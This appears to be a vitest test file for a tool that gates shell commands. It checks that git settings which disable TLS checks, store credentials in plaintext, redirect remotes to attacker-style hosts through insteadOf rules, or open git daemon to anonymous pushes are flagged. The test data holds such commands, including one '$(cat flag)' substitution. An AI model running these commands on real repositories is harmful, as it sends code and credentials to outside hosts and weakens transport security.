/**
 * Git settings that weaken transport or redirect remotes, and `git daemon` taking anonymous
 * pushes (src/extract/git-transport.ts), read at the unit and through the git pack.
 */
import { describe, expect, it } from 'vitest';
import { daemon, placeOf, transportSettingActions } from '../../src/extract/git-transport.js';
import { packVerdict } from '../helpers/command.js';

const verdict = await packVerdict('git');

/** `action|remote|refs` for each action. */
const setting = (key: string, value: string) =>
  transportSettingActions(key, value).map((a) => [a.action, a.remote, a.refs.join(',')].join('|'));

describe('transport settings written', () => {
  it.each<[string, string, string[]]>([
    ['http.sslVerify', 'false', ['tls-verify-off||http.sslVerify']],
    ['http.sslverify', '0', ['tls-verify-off||http.sslverify']],
    ['http.sslVerify', '', ['tls-verify-off||http.sslVerify']],
    [
      'http.https://git.corp.example.com/.sslVerify',
      'no',
      ['tls-verify-off||http.https://git.corp.example.com/.sslVerify'],
    ],
    ['http.sslVerify', 'true', []],
    ['http.sslCAInfo', '/etc/ssl/corp.pem', []],
    ['credential.helper', 'store', ['credential-plaintext||credential.helper']],
    [
      'credential.https://github.com.helper',
      'store --file /tmp/c',
      ['credential-plaintext||credential.https://github.com.helper'],
    ],
    ['credential.helper', 'git-credential-store', ['credential-plaintext||credential.helper']],
    [
      'credential.helper',
      '/usr/lib/git-core/git-credential-store --file /tmp/c',
      ['credential-plaintext||credential.helper'],
    ],
    // fail closed: a value known only at run time
    ['credential.helper', '$H', ['credential-plaintext||credential.helper']],
    ['http.sslVerify', '$V', ['tls-verify-off||http.sslVerify']],
    ['http.receivepack', '$(cat flag)', ['push-anonymous||http.receivepack']],
    ['credential.helper', 'cache --timeout=3600', []],
    ['credential.helper', 'cache --timeout=$T', []],
    ['credential.helper', '/usr/lib/git-core/git-credential-libsecret', []],
    ['credential.helper', 'manager', []],
    ['daemon.receivepack', 'true', ['push-anonymous||daemon.receivepack']],
    ['http.receivepack', 'yes', ['push-anonymous||http.receivepack']],
    ['http.receivepack', 'false', []],
    // rewrites to another host or path
    [
      'url.https://203.0.113.9/mirror/.insteadOf',
      'https://github.com/',
      ['remote-set-url|https://github.com/|https://203.0.113.9/mirror/'],
    ],
    [
      'url.git@198.51.100.7:repos/.pushInsteadOf',
      'git@github.com:',
      ['remote-set-url|git@github.com:|git@198.51.100.7:repos/'],
    ],
    [
      'url.https://github.com/attacker/.insteadOf',
      'https://github.com/acme/',
      ['remote-set-url|https://github.com/acme/|https://github.com/attacker/'],
    ],
    // a scheme or a user alone: every URL so written goes to the base
    ['url.https://evil.example/.insteadOf', 'https://', ['remote-set-url|https://|https://evil.example/']],
    ['url.https://evil.example/.insteadOf', 'git:', ['remote-set-url|git:|https://evil.example/']],
    ['url.https://evil.example/.pushInsteadOf', 'http', ['remote-set-url|http|https://evil.example/']],
    [
      'url.ssh://git@203.0.113.5/.insteadOf',
      'ssh://git@',
      ['remote-set-url|ssh://git@|ssh://git@203.0.113.5/'],
    ],
    ['url.git@198.51.100.7:.insteadOf', 'git@', ['remote-set-url|git@|git@198.51.100.7:']],
    ['url.https://evil.example/.insteadOf', '$FROM', ['remote-set-url|$FROM|https://evil.example/']],
    // one scheme for another, every host and path kept
    ['url.https://.insteadOf', 'git://', []],
    ['url.ssh://git@.insteadOf', 'git@', []],
    // fail closed: a replacement that is not a readable URL
    ['url.$MIRROR/.insteadOf', 'https://github.com/', ['remote-set-url|https://github.com/|$MIRROR/']],
    // same host and path, a token added, or an alias defined
    ['url.git@github.com:.insteadOf', 'https://github.com/', []],
    ['url.https://x-access-token:fake-token@github.com/.insteadOf', 'https://github.com/', []],
    ['url.ssh://git@github.com/acme/.insteadOf', 'https://github.com/acme/', []],
    ['url.https://github.com/.insteadOf', 'gh:', []],
    // a remote's URL written
    [
      'remote.origin.url',
      'https://203.0.113.9/acme/payments.git',
      ['remote-set-url|origin|https://203.0.113.9/acme/payments.git'],
    ],
    ['remote.origin.pushurl', 'git@example.org:x.git', ['remote-set-url|origin|git@example.org:x.git']],
    ['user.name', 'Dev Bot', []],
  ])('%s = %s', (key, value, expected) => {
    expect(setting(key, value)).toEqual(expected);
  });
});

describe('URLs read for their host and path', () => {
  it.each<[string, string | undefined]>([
    ['https://github.com/acme/x.git', 'github.com acme/x'],
    ['ssh://git@[::1]:2222/srv/x', '[::1] srv/x'],
    ['git@github.com:acme/x.git', 'github.com acme/x'],
    ['gitserver.corp:repos', 'gitserver.corp repos'],
    ['gh:', undefined],
    ['file:///srv/git/x', undefined],
  ])('%s → %s', (url, expected) => {
    const p = placeOf(url);
    expect(p ? `${p.host} ${p.path}` : undefined).toBe(expected);
  });
});

describe('git daemon', () => {
  it.each<[string, string[]]>([
    [
      'daemon --export-all --enable=receive-pack --base-path=/srv/git --reuseaddr --detach',
      ['push-anonymous|*|/srv/git'],
    ],
    [
      'daemon --enable=receive-pack --listen=0.0.0.0 --port=9418 /srv/git/x.git',
      ['push-anonymous|0.0.0.0|/srv/git/x.git'],
    ],
    // git daemon takes only `--opt=VALUE`: this stops at its usage message
    ['daemon --enable receive-pack --base-path /srv/git', []],
    [
      'daemon --inetd --enable=receive-pack --listen=127.0.0.1 /srv/git',
      ['push-anonymous|127.0.0.1|/srv/git'],
    ],
    ['daemon --listen=127.0.0.1 --enable=receive-pack --base-path=/tmp/fixture', []],
    ['daemon --listen=localhost --listen=::1 --enable=receive-pack /tmp/x', []],
    ['daemon --export-all --enable=receive-pack --disable=receive-pack /srv/git', []],
    ['daemon --export-all --base-path=/srv/git', []],
    ['daemon --enable=upload-archive /srv/git', []],
  ])('git %s', (line, expected) => {
    const acts = daemon(line.split(' '));
    expect(acts.map((a) => [a.action, a.remote, a.refs.join(',')].join('|'))).toEqual(expected);
  });

  // `git -c daemon.receivepack=VALUE daemon …`: the setting enables receive-pack for every repository
  it.each<[string, string, string[]]>([
    ['true', 'daemon --export-all', ['push-anonymous|*|']],
    ['$P', 'daemon --export-all /srv/git', ['push-anonymous|*|/srv/git']],
    ['false', 'daemon --export-all /srv/git', []],
    ['true', 'daemon --disable=receive-pack --export-all /srv/git', []],
    ['true', 'daemon --listen=127.0.0.1 --export-all /srv/git', []],
  ])('git -c daemon.receivepack=%s %s', (value, line, expected) => {
    const acts = daemon(line.split(' '), { config: new Map([['daemon.receivepack', value]]) });
    expect(acts.map((a) => [a.action, a.remote, a.refs.join(',')].join('|'))).toEqual(expected);
  });
});

describe('through the git pack', () => {
  it.each([
    ['git config --global http.sslVerify false', 'ask git/transport-security-off'],
    ['git config set --system http.sslverify 0', 'ask git/transport-security-off'],
    ['git config --global --bool http.sslVerify no', 'ask git/transport-security-off'],
    ['git config --global credential.helper store', 'ask git/transport-security-off'],
    [
      'git config --global url."https://203.0.113.9/mirror/".insteadOf "https://github.com/" && git push origin main',
      'ask git/remote-add',
    ],
    [
      'git config --file ~/.gitconfig url.https://mirror.evil.example/.insteadof https://gitlab.com/',
      'ask git/remote-add',
    ],
    ['git config remote.origin.url https://203.0.113.9/acme/payments.git', 'ask git/remote-add'],
    [
      'git daemon --export-all --enable=receive-pack --base-path=/srv/git --reuseaddr --detach',
      'ask git/anonymous-push',
    ],
    ['git -C /srv/git/payments.git config daemon.receivepack true', 'ask git/anonymous-push'],
    ['git config --global url.https://evil.example/.insteadOf https://', 'ask git/remote-add'],
    ['git config --global http.sslVerify "$V"', 'ask git/transport-security-off'],
    ['git config --global credential.helper /usr/bin/git-credential-store', 'ask git/transport-security-off'],
    ['git -c daemon.receivepack=true daemon --export-all', 'ask git/anonymous-push'],
    ['git -c daemon.receivepack daemon --base-path=/srv/git --export-all', 'ask git/anonymous-push'],
    ['git config --global url.https://.insteadOf git://', 'allow'],
    ['git -c daemon.receivepack=true daemon --listen=127.0.0.1 --export-all', 'allow'],
    ['git config --global http.sslVerify true', 'allow'],
    ['git config --get http.sslVerify', 'allow'],
    ['git config --global --unset http.sslVerify', 'allow'],
    ['git config --global url."git@github.com:".insteadOf "https://github.com/"', 'allow'],
    ['git config --global user.name "Dev Bot"', 'allow'],
    // one command's settings change nothing that lasts
    ['git -c http.sslVerify=false clone https://git.test.example/repo.git', 'allow'],
    ['git daemon --listen=127.0.0.1 --enable=receive-pack --export-all --base-path=/tmp/fixture', 'allow'],
    ['git daemon --export-all --base-path=/srv/git --reuseaddr', 'allow'],
  ])('%s → %s', (script, expected) => {
    expect(verdict(script)).toBe(expected);
  });
});
